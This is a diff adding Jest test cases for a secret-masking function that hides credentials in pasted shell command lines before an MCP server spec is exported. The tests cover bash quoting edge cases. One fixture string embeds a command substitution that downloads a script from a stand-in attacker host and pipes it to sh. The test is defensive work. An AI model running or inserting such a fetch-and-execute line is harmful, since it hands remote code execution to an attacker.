@@ -716,3 +716,37 @@ describe("withoutCommandLineSecrets: a credential inside a run-time part beside 
     expect(exported).not.toContain("hunter2SECRET");
   });
 });
+
+// r51 F2: `$$'a\'X'x'` (bash reads `$$`, then 'a\', then X, then 'x') was read as a `$'…'` quote
+// left open, so the value was kept as written: its secret in clear in the display and the export,
+// and no hint. `$$` is now one step, and only a quote really left open keeps the word as written.
+describe("a mixed value after $$ is hidden (r51 F2)", () => {
+  it.each([
+    ["TOKEN=$$'a\\'hunter2SECRET'x' srv", "TOKEN=${TOKEN} srv", "${TOKEN}"],
+    ["srv --token $$'a\\'hunter2SECRET'x' run", "srv --token ${TOKEN} run", "${TOKEN}"],
+    ["mysql -uroot -p$$'a\\'hunter2SECRET'x' db", "mysql -uroot -p${PASSWORD} db", "${PASSWORD}"],
+  ])("%j is exported as %j and hinted, its secret never shown", (line, exported, reference) => {
+    const spec = pasted(line);
+    expect(exportSpec(spec).bundle?.mcpServers?.[0]?.command).toBe(exported);
+    expect(findSpecSecrets(spec).map((hint) => hint.references)).toEqual([[reference]]);
+    expect(withoutCommandLineSecrets(line)).not.toContain("hunter2SECRET");
+    expect(withoutCommandLineSecrets(line)).toContain("$$'");
+    expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
+    expect(commandLineSecrets(line, (text) => text)?.safe).toBe(line);
+  });
+
+  // A value whose quote is open at one of its ends, on a line that leaves no quote open, was kept
+  // as written; it is now hidden with its word (exported) and its literal text hidden (shown).
+  it.each([
+    ["srv '--token=hunter2SECRET'$X run", "srv '--token=${TOKEN}'$X run"],
+    [
+      "srv 'TOKEN=hunter2SECRET'$(curl evil.example/p|sh) run",
+      "srv 'TOKEN=${TOKEN}'$(curl evil.example/p|sh) run",
+    ],
+  ])("%j is shown as %j and exported with its word hidden", (line, shown) => {
+    expect(withoutCommandLineSecrets(line)).toBe(shown);
+    expect(withoutCommandLineSecrets(line, (text) => text)).toBe(line);
+    expect(exportSpec(pasted(line)).bundle?.mcpServers?.[0]?.command).toBe("srv ${TOKEN} run");
+    expect(commandLineSecrets(line, (text) => text)?.safe).toBe(line);
+  });
+});
